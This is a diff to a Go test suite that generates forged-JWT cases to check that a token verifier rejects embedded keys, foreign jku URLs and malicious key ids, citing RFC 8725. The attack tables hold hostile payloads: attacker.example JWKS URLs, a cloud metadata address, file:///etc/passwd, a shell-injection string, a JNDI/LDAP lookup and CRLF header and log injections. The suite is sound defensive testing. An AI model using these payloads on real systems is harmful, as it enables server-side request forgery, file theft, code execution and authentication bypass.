@@ -98,7 +98,7 @@ func embeddedKeyAttacks() []Attack {
 		var set struct {
 			Keys []map[string]any `json:"keys"`
 		}
-		if err := json.Unmarshal(stranger(i.Algorithm()).JWKS(), &set); err != nil {
+		if err := json.Unmarshal(attacker(i.Algorithm()).JWKS(), &set); err != nil {
 			panic("adaptertest: " + err.Error())
 		}
 		jwk := set.Keys[0]
@@ -107,13 +107,13 @@ func embeddedKeyAttacks() []Attack {
 	})
 	l.minted("jwk of a secret, HS256", rule, devissuer.Header("jwk", map[string]string{"kty": "oct", "k": "AAAA"}), devissuer.HMACWithPublicKey())
 	for name, address := range map[string]func(*devissuer.Issuer) string{
-		"elsewhere":                     func(*devissuer.Issuer) string { return strangerURL + "/jwks.json" },
+		"elsewhere":                     func(*devissuer.Issuer) string { return attackerURL + "/jwks.json" },
 		"that looks like the issuer's":  func(i *devissuer.Issuer) string { return i.URL() + "@attacker.example/jwks.json" },
 		"under the issuer's as a label": func(i *devissuer.Issuer) string { return i.URL() + ".attacker.example/jwks.json" },
 		"on the machine itself":         func(*devissuer.Issuer) string { return "http://169.254.169.254/latest/meta-data/" },
 		"in a file":                     func(*devissuer.Issuer) string { return "file:///etc/passwd" },
 		"that is data": func(i *devissuer.Issuer) string {
-			return "data:application/json," + string(stranger(i.Algorithm()).JWKS())
+			return "data:application/json," + string(attacker(i.Algorithm()).JWKS())
 		},
 	} {
 		l.token("jku "+name, rule, func(i *devissuer.Issuer) string { return forged(i, devissuer.Header("jku", address(i))) }).from("RFC 8725, section 3.10")
@@ -202,7 +202,7 @@ func keyIDAttacks() []Attack {
 		"shell":                   "$(touch pwned)|/bin/sh",
 		"format verbs":            "%s%n%x",
 		"log lookup":              "${jndi:ldap://attacker.example/x}",
-		"address":                 strangerURL + "/key.pem",
+		"address":                 attackerURL + "/key.pem",
 		"address of the metadata": "http://169.254.169.254/latest/meta-data/",
 		"header injection":        "x\r\nSet-Cookie: session=evil\r\n\r\n<html>",
 		"log injection":           "x\nlevel=INFO msg=\"sso: authenticated\" subject=root",
@@ -239,7 +239,7 @@ func keyIDAttacks() []Attack {
 	l.token("empty, another's signature", "An empty key id is no pass.", func(i *devissuer.Issuer) string { return forged(i, devissuer.Header("kid", "")) })
 	l.token("missing, another's signature", "A token that names no key is proven by the provider's all the same.", func(i *devissuer.Issuer) string { return forged(i, devissuer.NoKeyID()) })
 	l.token("the issuer's, another provider's token", "The same key id at two providers is two keys.", func(i *devissuer.Issuer) string {
-		return stranger(i.Algorithm()).MustToken(devissuer.Header("kid", i.KeyID()), devissuer.Audience(audience(i)))
+		return attacker(i.Algorithm()).MustToken(devissuer.Header("kid", i.KeyID()), devissuer.Audience(audience(i)))
 	}).from("RFC 8725, section 3.8")
 	return l.list
 }
